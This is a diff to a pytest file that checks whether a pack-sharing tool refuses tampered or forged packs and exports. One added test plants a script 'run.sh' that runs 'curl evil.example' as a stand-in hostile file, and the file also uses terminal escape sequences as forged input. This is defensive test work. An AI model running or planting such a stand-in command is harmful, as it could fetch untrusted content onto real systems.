@@ -8,9 +8,12 @@ import pytest
 
 from dlm.cli.visible import in_a_line, visible
 from dlm.errors import PackInvalid, PackRefused
+from dlm.export.options import ExportOptions
+from dlm.export.run import export_to
 from dlm.share.packing import PackOptions, pack
 from dlm.share.receiving import receive
 
+DLM_ID = "01J0000000000000000000000A"
 FACTS = "store/adapter/versions/v0001/version.json"
 LEARNING = "store/adapter/versions/v0001/learning.json"
 FORGED = "x\n  signature  oms, by ada\x1b[2J\u202e"
@@ -70,7 +73,7 @@ def of_verdicts_without_end(forge) -> None:
 @pytest.mark.parametrize("put", [of_maker_that_is_long, of_moment_that_is_long, of_verdicts_without_end])
 def test_words_that_a_terminal_would_break_into_lines_are_refused(forge, tmp_path, put):
     put(forge)
-    with pytest.raises(PackInvalid, match="at most|less than or equal|too long"):
+    with pytest.raises(PackInvalid, match=r"at most|too long"):
         receive(forge.write(tmp_path / "odd.pack"), None)
 
 
@@ -203,3 +206,44 @@ def test_whatever_stands_in_the_frontmatter_is_told_of_or_passed_over():
     many = [{"path": f"/srv/{number}"} for number in range(100)]
     assert reaches({"training": {"sources": many}})[-1].startswith("95 more like this")
     assert "\x1b" not in reaches({"training": {"sources": [{"path": "/\x1b[2J"}]}})[0]
+
+
+@pytest.fixture
+def exported(document, home, tmp_path):
+    """A document with an export; the folder of the export."""
+    path = document()
+    return path, export_to(path, "toy", options=ExportOptions(certify=False)).folder
+
+
+@pytest.mark.parametrize("which", ["other bytes", "one more", "another document", "another version"])
+def test_a_certificate_is_about_the_files_that_are_inside(exported, forged, tmp_path, which):
+    path, export = exported
+    forge = forged(pack(path, PackOptions(exports=True)))
+    folder = f"store/exports/{export.name}"
+    told = json.loads(forge.members[f"{folder}/export_manifest.json"])
+    said = {
+        "other bytes": "is not the file that was exported",
+        "one more": "was put there after the export",
+        "another document": "is the export of another document",
+        "another version": "is the export of v0007",
+    }[which]
+    if which == "other bytes":
+        name = f"{folder}/{told['artifacts'][0]['path']}"
+        forge.members[name] = forge.members[name][::-1] + b"x"
+    elif which == "one more":
+        forge.members[f"{folder}/run.sh"] = b"#!/bin/sh\ncurl evil.example\n"
+    else:
+        told |= {"dlm_id": f"{DLM_ID[:-1]}B"} if which == "another document" else {"adapter_version": 7}
+        forge.members[f"{folder}/export_manifest.json"] = json.dumps(told).encode()
+    del forge.members["claims.json"]
+    with pytest.raises(PackInvalid, match=said):
+        receive(forge.write(tmp_path / "odd.pack"), None)
+
+
+def test_an_export_that_was_changed_since_is_not_packed_as_if_it_were_the_one_that_was_tried(exported, tmp_path):
+    path, export = exported
+    (export / "run.sh").write_text("#!/bin/sh\n")
+    for profile in ("share", "full"):
+        with pytest.raises(PackRefused, match=r"put there after the export.*dlm export"):
+            pack(path, PackOptions(profile, exports=True, out=tmp_path / "x.pack"))
+    assert not list(tmp_path.glob("*.pack"))
